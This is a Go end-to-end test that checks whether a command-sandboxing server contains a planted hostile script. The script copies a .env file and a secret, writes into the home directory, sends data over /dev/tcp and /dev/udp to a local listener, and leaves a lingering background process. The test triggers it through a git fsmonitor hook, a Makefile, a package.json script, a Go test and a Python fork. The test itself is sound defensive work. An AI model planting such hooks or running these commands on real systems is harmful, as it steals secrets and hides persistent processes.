//go:build linux

package e2e

import (
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
)

// harm does with what every policy allows all that a command is kept from: it
// writes elsewhere, reads secrets, connects, and leaves a process.
const harm = `: >ran
echo evil >HOME/new; echo evil >>HOME/letter; touch HOME/letter; mkdir HOME/dir; ln -s / HOME/link
cat .env HOME/letter >stolen; cp .env stolen-too; mv HOME/letter letter
bash -c 'echo evil >/dev/tcp/127.0.0.1/PORT'
bash -c 'echo evil >/dev/udp/127.0.0.1/PORT'
(trap '' HUP TERM; tail -f MARKER >/dev/null 2>&1 &)
`

// harmed are the ways of ordinary work to run ./harm.sh, by the row of the corpus.
var harmed = map[string]map[string]string{
	"C427": {"fsmonitor": "sh ./harm.sh"},
	"C428": {"harm_test.go": "package main\n\nimport (\n\t\"os/exec\"\n\t\"testing\"\n)\n\nfunc TestHarm(t *testing.T) { exec.Command(\"sh\", \"./harm.sh\").Run() }\n"},
	"C429": {"Makefile": "build:\n\t-sh ./harm.sh\n"},
	"C430": {"package.json": `{"name": "harm", "version": "1.0.0", "scripts": {"test": "sh ./harm.sh"}}`},
	"C431": {"script.py": "import os\nif os.fork() == 0:\n    os.setsid()\n    os.execvp('sh', ['sh', './harm.sh'])\nos.wait()\n"},
}

// A trap is a directory with such work, a home directory that is none of a
// command's business, and a host that is not to be reached.
type trap struct {
	*attacked
	marker string
	tcp    *net.TCPListener
	udp    *net.UDPConn
	before map[string]string
}

func newTrap(t *testing.T, id string) *trap {
	t.Helper()
	if harmed[id] == nil {
		t.Fatalf("%s is not among the ways that this test knows", id)
	}
	c := &trap{attacked: newAttacked(t, []string{"gitrepo ${WS}", "file ${WS}/.env S=1", "file ${WS}/go.mod 'module harm\n'"})}
	c.marker = filepath.Base(c.work) + "-marker"
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	c.tcp = l.(*net.TCPListener)
	port := c.tcp.Addr().(*net.TCPAddr).Port
	if c.udp, err = net.ListenUDP("udp", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1), Port: port}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.udp.Close() })
	files := map[string]string{
		filepath.Join(c.work, "harm.sh"): strings.NewReplacer("HOME", c.home, "PORT", fmt.Sprint(port), "MARKER", c.marker).Replace(harm),
		filepath.Join(c.work, c.marker):  "", filepath.Join(c.home, "letter"): fileSecret,
	}
	for name, content := range harmed[id] {
		if name == "fsmonitor" {
			if out, err := exec.Command("git", "-C", c.work, "config", "core.fsmonitor", content).CombinedOutput(); err != nil {
				t.Fatalf("%v: %s", err, out)
			}
			continue
		}
		files[filepath.Join(c.work, name)] = content
	}
	for path, content := range files {
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	t.Cleanup(func() {
		for _, pid := range marked(t, c.marker) {
			n := 0
			fmt.Sscan(pid, &n)
			syscall.Kill(n, syscall.SIGKILL)
		}
	})
	for _, dir := range []string{".cache", ".local/state"} { // where the server keeps caches for commands, and its lock
		must(t, os.MkdirAll(filepath.Join(c.home, dir), 0o700))
	}
	c.before = trace(t, c.home, ".cache", ".local")
	return c
}

// sprung lists the harm that was done.
func (c *trap) sprung(t *testing.T) (kinds []string) {
	t.Helper()
	if _, err := os.Stat(filepath.Join(c.work, "ran")); err != nil {
		t.Errorf("the work did not run as far as it may: %v", err)
	}
	for path, was := range c.before {
		if trace(t, c.home, ".cache", ".local")[path] != was {
			kinds = append(kinds, "change")
			break
		}
	}
	if len(trace(t, c.home, ".cache", ".local")) != len(c.before) {
		kinds = append(kinds, "write")
	}
	for _, name := range []string{"stolen", "stolen-too", "letter"} {
		if b, err := os.ReadFile(filepath.Join(c.work, name)); err == nil && strings.Contains(string(b), fileSecret) {
			kinds = append(kinds, name)
		}
	}
	// What came before is seen before what is sent here.
	own, err := net.Dial("tcp", c.tcp.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer own.Close()
	first, err := c.tcp.Accept()
	if err != nil {
		t.Fatal(err)
	}
	defer first.Close()
	if first.RemoteAddr().String() != own.LocalAddr().String() {
		kinds = append(kinds, "tcp")
	}
	send, err := net.Dial("udp", c.udp.LocalAddr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer send.Close()
	datagram := make([]byte, 64)
	_, err = send.Write([]byte("own"))
	n, errRead := c.udp.Read(datagram)
	if err := errors.Join(err, errRead); err != nil {
		t.Fatal(err)
	}
	if string(datagram[:n]) != "own" {
		kinds = append(kinds, "udp")
	}
	if len(marked(t, c.marker)) > 0 {
		kinds = append(kinds, "process")
	}
	slices.Sort(kinds)
	return kinds
}

// contained does the ordinary work of a row whose files are hostile: it runs, and
// does no harm. What go builds is kept in home, for the sake of time.
func (r commandRow) contained(t *testing.T, home string, tools json.RawMessage) {
	c := newTrap(t, r.ID)
	s := c.serve(t, binary(), tools, "best_effort")
	a := s.call("execute_command", map[string]any{"command": r.Command, "timeout": 600, "env": map[string]any{"GOCACHE": goCache(home)}})
	if a.refused() {
		t.Errorf("%q is refused: %s", r.Command, a.text())
	}
	if kinds := c.sprung(t); len(kinds) > 0 {
		t.Errorf("%q (%s) did: %v", r.Command, r.Technique, kinds)
	}
	if t.Failed() {
		t.Logf("%s", a.text())
	}
}

// uncontained does the same without any server, and all of the harm, so it would
// show.
func (r commandRow) uncontained(t *testing.T, home string) {
	c := newTrap(t, r.ID)
	a := plainBash(t, c.work, r.Command, []string{"PATH=" + os.Getenv("PATH"), "HOME=" + c.home, "GOCACHE=" + goCache(home)})
	if kinds := c.sprung(t); !slices.Equal(kinds, []string{"change", "letter", "process", "stolen", "stolen-too", "tcp", "udp", "write"}) {
		t.Errorf("%q alone did only: %v\n%v", r.Command, kinds, a.Result.StructuredContent)
	}
}
